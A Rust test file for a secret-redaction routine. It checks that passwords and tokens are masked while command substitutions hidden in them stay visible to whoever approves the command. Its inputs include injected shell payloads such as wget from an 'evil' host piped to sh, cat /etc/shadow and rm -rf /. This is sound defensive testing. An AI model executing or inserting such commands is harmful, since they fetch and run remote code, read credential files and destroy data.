//! Code that runs, which nothing hides, and passwords that only look like it.

use super::*;

#[test]
fn code_that_runs_is_seen_by_who_approves_it() {
    for text in [
        "export DB_PASSWORD=\"$(wget -qO- http://evil/x | sh)\"",
        "bash -c \"PASSWORD='$(wget evil)'\"",
        "TOKEN=$(cat /etc/shadow) x",
        "TOKEN=`cat /etc/shadow`",
        "TOKEN=\"`wget evil`\"",
        "login --password $(wget evil)",
        "curl -u \"x:$(wget evil)\" y",
        "curl -u x:$(wget evil) y",
        "curl -H \"Authorization: Bearer $(wget evil)\" x",
        "password = __import__(\"os\").system(\"rm -rf /\")",
        "connect(password=os.popen(\"wget evil\").read())",
        "password = f\"{__import__('os').system('x')}\"",
        "secret = \"#{system('rm')}\"",
        "password = Some(__import__(\"os\"))",
        "machine a login b password \"`wget evil`\"",
        "diff --token <(wget evil) x",
        "{\"password\": require(\"child_process\").execSync(\"x\")}",
    ] {
        keeps(text);
    }
    masks("TOKEN=x;rm${IFS}-rf", "TOKEN=***;rm${IFS}-rf");
    masks("TOKEN=x;rm -rf /", "TOKEN=***;rm -rf /");
    masks("export TOKEN=x&&./evil", "export TOKEN=***&&./evil");
    masks("TOKEN=\"x\"&&rm -rf /", "TOKEN=\"***\"&&rm -rf /");
    masks("sh -c \"TOKEN=x|sh\"", "sh -c \"TOKEN=***|sh\"");
    masks("login --token x;rm -rf /", "login --token ***;rm -rf /");
    masks("TOKEN=x;A=rm;$A", "TOKEN=***;A=rm;$A");
    masks("PASSWORD=\"hunter2$(rm -rf /)\"", "PASSWORD=\"***$(rm -rf /)\"");
    masks("curl -u 'x:hunter2$(id)' y", "curl -u 'x:***$(id)' y");
    // A secret by its own form is none the less masked.
    masks("TOKEN=$(echo ghp_a1B2a1B2a1B2a1B2a1B2)", "TOKEN=$(echo ***)");
}

#[test]
fn a_password_with_signs_of_code_is_masked() {
    masks("PASSWORD='a;b|c&&d`e`'", "PASSWORD='***'");
    masks("PASSWORD=\"a;b|c&&d\"", "PASSWORD=\"***\"");
    masks("PASSWORD=\"a`b$(c\"", "PASSWORD=\"***\"");
    masks("PASSWORD=a;B|C", "PASSWORD=***");
    masks("password: a;b|c", "password: ***");
    masks("password: a(b", "password: ***");
    masks("{\"password\": \"a$(b)`c`\"}", "{\"password\": \"***\"}");
    masks("PASSWORD=${NAME:-hunter2}", "PASSWORD=***");
    masks("token := `abc`", "token := `***`");
    masks("password = Secret::new(\"a;b\")", "password = ***");
    masks("curl -u 'x:a;b`c`' y", "curl -u 'x:***' y");
}
